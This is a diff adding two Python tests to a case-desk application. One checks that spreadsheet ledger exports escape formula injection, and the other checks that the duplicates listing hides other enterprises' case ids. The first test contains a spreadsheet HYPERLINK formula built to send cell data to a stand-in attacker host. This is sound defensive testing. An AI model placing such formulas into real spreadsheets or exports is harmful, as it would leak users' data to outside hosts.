@@ -152,3 +152,22 @@ def test_the_impact_panel_in_both_languages(desk, language, heading):
     suzhou.cookies.set("ck_lang", language)
     page = suzhou.get(f"/desk/cases/{case['id']}")
     assert page.status_code == 200 and heading in page.text and "长春整车有限公司" in page.text
+
+
+def test_ledger_export_neutralises_formulas(desk):
+    """Issue 10 #4: a case title that looks like a formula stays text in the ledger workbook."""
+    evil = '=HYPERLINK("http://evil.example/?d="&A2,"click")'
+    file(desk, title=evil, help_wanted="@SUM(1+1)")
+    ledger = client_for(desk, "ministry").get("/api/v1/desk/ledger.xlsx")
+    cells = [cell for row in load_workbook(io.BytesIO(ledger.content)).active.iter_rows() for cell in row]
+    assert not [cell.value for cell in cells if cell.data_type == "f"]
+    assert "'" + evil in [cell.value for cell in cells]
+
+
+def test_duplicates_show_only_cases_the_caller_may_read(desk):
+    """Issue 10 #10: an enterprise never learns another enterprise's case id through ``duplicates``."""
+    mine = file(desk, blocking_uscc=desk.usccs["wuxi"])
+    theirs = file(desk, client_for(desk, "supplier"), blocking_uscc=desk.usccs["wuxi"])
+    assert client_for(desk, "oem").get(f"/api/v1/desk/cases/{mine['id']}").json()["duplicates"] == []
+    assert client_for(desk, "supplier").get(f"/api/v1/desk/cases/{theirs['id']}").json()["duplicates"] == []
+    assert client_for(desk, "jiangsu").get(f"/api/v1/desk/cases/{mine['id']}").json()["duplicates"] == [theirs["id"]]
